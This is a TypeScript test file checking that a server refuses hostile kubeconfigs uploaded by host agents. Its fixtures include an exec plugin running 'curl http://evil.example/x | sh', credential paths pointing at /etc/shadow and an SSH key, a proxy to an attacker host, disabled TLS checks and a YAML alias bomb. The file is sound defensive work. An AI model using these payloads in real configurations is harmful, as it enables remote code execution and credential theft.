/**
 * What reaches the operator who downloads a kubeconfig: a host credential (a compromised edge box) uploads one
 * that runs a command on the operator's machine (`exec:`), reads their files, or sends their kubectl elsewhere.
 * The server refuses each, keeps only a rewritten certificate/token kubeconfig, and serves it uncached.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/api/app.ts';
import { createTokenSecret, hashTokenSecret } from '../../src/workflow/token-secret.ts';
import { applyAgentReport } from '../../src/workflow/use-cases/apply-agent-report.ts';
import { addCluster, addHost, addOsProfile, addTemplate, createTestDeps, PROJECT } from '../../src/workflow/use-cases/test-inventory.ts';
import type { UseCaseDeps } from '../../src/workflow/use-cases/use-case-deps.ts';
import type { Host } from '../../src/domain/inventory/host.ts';
import { expectAppError } from '../support/expect-app-error.ts';
import { HOST_KUBECONFIG } from '../support/kubeconfig.ts';

const EXEC_USER = `
    user:
      exec:
        apiVersion: client.authentication.k8s.io/v1
        command: sh
        args: ["-c", "curl -s http://evil.example/x | sh"]`;

/** HOST_KUBECONFIG with its user's credentials or its cluster changed. */
const withUser = (user: string): string => HOST_KUBECONFIG.replace(/\n {4}user:\n( {6}.*\n)+/, `${user}\n`);
const withCluster = (line: string): string => HOST_KUBECONFIG.replace('      certificate-authority-data: Y2E=', line);

const ATTACKS: [string, string][] = [
  ['an exec credential plugin', withUser(EXEC_USER)],
  ['an auth provider', withUser('    user:\n      auth-provider:\n        name: oidc')],
  ['a token read from a file on the operator machine', withUser('    user:\n      tokenFile: /home/operator/.ssh/id_ed25519')],
  ['client certificate files', withUser('    user:\n      client-certificate: /etc/passwd\n      client-key: /etc/shadow')],
  ['no credential at all', withUser('    user: {}')],
  ['a proxy', withCluster('      proxy-url: http://evil.example:3128')],
  ['TLS checks switched off', withCluster('      insecure-skip-tls-verify: true')],
  ['a CA read from a file', withCluster('      certificate-authority: /etc/shadow')],
  ['a plain HTTP server', HOST_KUBECONFIG.replace('https://10.0.0.5:6443', 'http://10.0.0.5:6443')],
  ['a server with a path', HOST_KUBECONFIG.replace('https://10.0.0.5:6443', 'https://10.0.0.5:6443/api/evil')],
  ['a server with user info', HOST_KUBECONFIG.replace('https://10.0.0.5:6443', 'https://admin@10.0.0.5:6443')],
  ['a server without a port', HOST_KUBECONFIG.replace('https://10.0.0.5:6443', 'https://10.0.0.5')],
  ['YAML aliases (a billion laughs)', `a: &a [x, x]\nb: &b [*a, *a]\n${HOST_KUBECONFIG}`],
  ['extra top-level keys', `${HOST_KUBECONFIG}extensions: []\n`],
];

describe('a kubeconfig uploaded by an agent', () => {
  let deps: UseCaseDeps;
  let host: Host;
  let adminToken: string;

  beforeAll(async () => {
    deps = await createTestDeps();
    await addOsProfile(deps.store);
    await addTemplate(deps.store);
    host = await addHost(deps.store, 'SN-KUBE');
    await addCluster(deps.store, 'store-1', [host]);
    adminToken = createTokenSecret();
    await deps.store.tokens.create({ project: PROJECT, role: 'admin', name: 'admin', secretHash: hashTokenSecret(adminToken) });
  });
  afterAll(async () => deps.store.close());

  const report = (kubeconfig: string) =>
    applyAgentReport(deps, {
      project: PROJECT,
      hostId: host.id,
      report: { manifest: null, cluster: { name: 'store-1', phase: 'ready', message: 'K3s is ready', kubeconfig } },
    });

  it.each(ATTACKS)('is refused with %s, and nothing is stored', async (_, kubeconfig) => {
    const error = await expectAppError(report(kubeconfig), { code: 'InvalidField' });
    expect(error.field).toMatch(/^cluster\/kubeconfig/);
    expect(await deps.store.clusters.getKubeconfig(PROJECT, 'store-1')).toBeNull();
  });

  it('is kept when it holds only certificates or a token and an https://<address>:<port> server, and served uncached', async () => {
    const commented = `# written by K3s\n${HOST_KUBECONFIG}`;
    await report(commented);
    expect(await deps.store.clusters.getKubeconfig(PROJECT, 'store-1')).toBe(HOST_KUBECONFIG);
    const app = await buildApp(deps);
    const response = await app.inject({
      method: 'GET',
      url: `/api/v1/projects/${PROJECT}/clusters/store-1/kubeconfig`,
      headers: { authorization: `Bearer ${adminToken}` },
    });
    await app.close();
    expect(response.statusCode).toBe(200);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body).toBe(HOST_KUBECONFIG);
  });
});
